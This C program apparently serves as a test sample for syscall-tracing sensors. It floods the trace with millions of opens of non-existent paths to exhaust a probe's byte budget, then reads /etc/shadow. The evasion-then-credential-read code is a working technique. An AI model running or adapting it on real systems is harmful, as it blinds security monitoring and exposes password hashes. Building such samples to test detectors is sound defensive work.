/* Malicious, sensor-evasive: floods the syscall trace (opens of long, ever-changing paths that do
 * not exist) so that a probe with a byte budget gives up, and only then reads /etc/shadow
 * (T1562.006 indicator blocking, then T1003.008). argv[1]: flood iterations (default 5 000 000). */
#include "common.h"
#include <fcntl.h>
int main(int argc, char **argv) {
  long n = argc > 1 ? atol(argv[1]) : 5000000;
  char path[200];
  SAY("integrity-flood: flooding the trace with %ld calls", n);
  for (long i = 0; i < n; i++) {
    snprintf(path, sizeof path, "/var/tmp/.flood/%0120ld/%ld", i, i);
    int f = open(path, O_RDONLY);
    if (f >= 0) close(f);
  }
  int fd = open("/etc/shadow", O_RDONLY);
  if (fd < 0) { WARN("open /etc/shadow"); return 1; }
  char buf[4096];
  ssize_t r = read(fd, buf, sizeof buf);
  close(fd);
  SAY("integrity-flood: read %zd bytes of /etc/shadow", r);
  return 0;
}
